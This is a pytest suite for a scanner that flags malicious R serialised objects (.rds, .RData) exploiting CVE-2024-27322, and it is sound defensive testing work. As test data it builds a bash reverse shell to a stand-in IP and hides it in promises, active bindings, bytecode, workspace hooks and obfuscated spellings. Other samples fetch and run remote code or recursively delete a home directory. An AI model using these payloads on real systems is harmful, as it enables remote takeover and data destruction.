"""R's serialised objects: what is evaluated when somebody loads one, spelled out or hidden, and what is not."""

import bz2
import gzip
import lzma

import pytest

from scanner.finding import Severity, Verdict
from tests.formats.unwrapping import names
from tests.hostile.scanning import blocked_for, scan
from tests.recipes.archives import PICKLE
from tests.recipes.robjects import (
    Call,
    Frame,
    Function,
    Mapped,
    Name,
    Pairs,
    Promise,
    call,
    serialized,
    workspace,
)

SHELL = "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'"
SYSTEM = call("system", SHELL)
PLACES = {
    "the object itself": Promise(SYSTEM),
    "an element": [1.0, ["a", Promise(SYSTEM)]],
    "a variable": Frame(Pairs((("x", 1.0), ("y", Promise(SYSTEM))))),
    "an active binding": Frame(Pairs((("x", Function(SYSTEM)),), active=True)),
    "a compiled active binding": Frame(Pairs((("x", Function(SYSTEM, compiled=True)),), active=True)),
    "bytecode that shows another source": Frame(
        Pairs((("x", Function(SYSTEM, compiled=True, shown=call("+", 1.0, 1.0))),), active=True)
    ),
}
QUOTED = call("quote", SYSTEM)
SPELLED = {
    "do.call": call("do.call", "system", call("list", SHELL)),
    "get": Call((call("get", "system"), SHELL)),
    "package": Call((call("::", Name("base"), Name("system")), SHELL)),
    "variable": call("{", call("<-", Name("f"), Name("system")), call("f", SHELL)),
    "paste0": call("system", call("paste0", *SHELL)),
    "collapse": call("system", call("paste", call("rev", call("c", *reversed(SHELL))), ("collapse", ""))),
    "code points": call("system", call("intToUtf8", call("c", *map(float, SHELL.encode())))),
    "raw": call("system", call("rawToChar", call("as.raw", call("c", *map(float, SHELL.encode()))))),
    "anonymous function": Call((call("function", None, SYSTEM),)),
    "lapply": call("lapply", call("list", SHELL), Name("system")),
    "quoted": call("eval", QUOTED),
    "a variable of what is quoted": call("{", call("<-", Name("e"), QUOTED), call("eval", Name("e"))),
    "branch": call("if", call("interactive"), 1.0, SYSTEM),
    "loop": call("for", Name("i"), call("c", SHELL, "x"), call("system", Name("i"))),
    "named": call("system", ("intern", 1.0), ("command", SHELL)),
    "nested promise": call("print", Promise(SYSTEM)),
}


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
@pytest.mark.parametrize("form", "XBA")
@pytest.mark.parametrize("version", [2, 3])
def test_what_is_evaluated_on_load(place, form, version):
    """CVE-2024-27322."""
    data = serialized(place, version=version, form=form)
    assert "r-data" in names(data)
    assert blocked_for(scan(data, "fit.rds")) == {"remote-shell"}


@pytest.mark.parametrize("code", SPELLED.values(), ids=SPELLED)
def test_however_it_is_spelled(code):
    assert blocked_for(scan(serialized(Promise(code)), "fit.rds")) == {"remote-shell"}


@pytest.mark.parametrize("form", "XBA")
def test_a_workspace(form):
    assert blocked_for(scan(workspace(form=form, x=Promise(SYSTEM)), ".RData")) == {"remote-shell"}
    hooked = workspace(form=form, **{".First": Function(SYSTEM)})
    assert blocked_for(scan(hooked, ".RData")) == {"remote-shell"}


@pytest.mark.parametrize("compress", [gzip.compress, bz2.compress, lzma.compress])
def test_compressed(compress):
    assert blocked_for(scan(compress(serialized(Promise(SYSTEM))), "fit.rds")) == {"remote-shell"}


@pytest.mark.parametrize(
    ("code", "behaviour"),
    [
        (call("eval", call("parse", ("text", "system('id')"))), "code-execution"),
        (call("source", "https://packages.example/x.R"), "download-and-run"),
        (
            call("{", call("download.file", "http://192.0.2.1/x", "/tmp/x"), call("system", "/tmp/x")),
            "download-and-run",
        ),
        (
            Call((call("::", Name("processx"), Name("run")), "sh", ("args", call("c", "-c", "id")))),
            "code-execution",
        ),
        (call("unlink", "/home/user", ("recursive", 1.0)), "destructive"),
    ],
)
def test_what_it_does_is_told(code, behaviour):
    assert behaviour in blocked_for(scan(serialized(Promise(code)), "fit.rds"))


@pytest.mark.parametrize(
    "value",
    [
        SYSTEM,
        Promise(SYSTEM, kept=True),
        Promise(call("nrow", Name("data"))),
        Promise(call("eval", call("quote", call("+", 1.0, Name("x"))))),
        Promise(call("cat", "fitting\n")),
        Frame(Pairs((("formula", Promise(call("~", Name("y"), call("log", Name("x"))))), ("n", 1.0)))),
        Frame(Pairs((("now", Function(call("Sys.time"))),), active=True)),
    ],
)
def test_what_does_not_run_or_only_computes(value):
    assert scan(serialized(value), "fit.rds").verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "value", [Function(SYSTEM), Function(SYSTEM, compiled=True), [Function(SYSTEM, ("x",))]]
)
def test_a_function_that_nobody_calls_is_noted(value):
    assert scan(serialized(value), "fit.rds").verdict is Verdict.NOTE


def test_a_vector_that_is_a_file():
    (finding,) = scan(serialized(Mapped("/etc/passwd")), "x.rds").findings
    assert (finding.rule, finding.severity) == ("external-reference", Severity.ERROR)


def test_bytes_are_looked_at():
    assert blocked_for(scan(serialized([PICKLE + bytes(99)]), "x.rds")) == {"code-execution"}


def test_what_stands_behind_the_object():
    report = scan(serialized([1.0]) + PICKLE, "x.rds")
    assert blocked_for(report) == {"code-execution"}
    assert "format-mismatch" in {finding.rule for finding in report.findings}


def test_a_break_behind_the_payload():
    report = scan(serialized([Promise(SYSTEM), "a text"])[:-3], "x.rds")
    assert blocked_for(report) == {"remote-shell"}
    assert "unreadable-artifact" in {finding.rule for finding in report.findings}


def test_nesting_is_a_limit():
    value = 1.0
    for _ in range(2000):
        value = [value]
    with pytest.raises(RecursionError):
        serialized(value)
    deep = b"\0\0\0\x13\0\0\0\1" * 20_000
    report = scan(serialized([])[:-8] + deep, "x.rds")
    assert {finding.rule for finding in report.findings} == {"incomplete-analysis"}


def test_texts_that_are_none():
    broken = serialized(["ab", Name("x")]).replace(b"\0\x04\0\x09\0\0\0\x02ab", b"\0\0\0\x10\0\0\0\0")
    assert scan(broken, "x.rds").failure is None
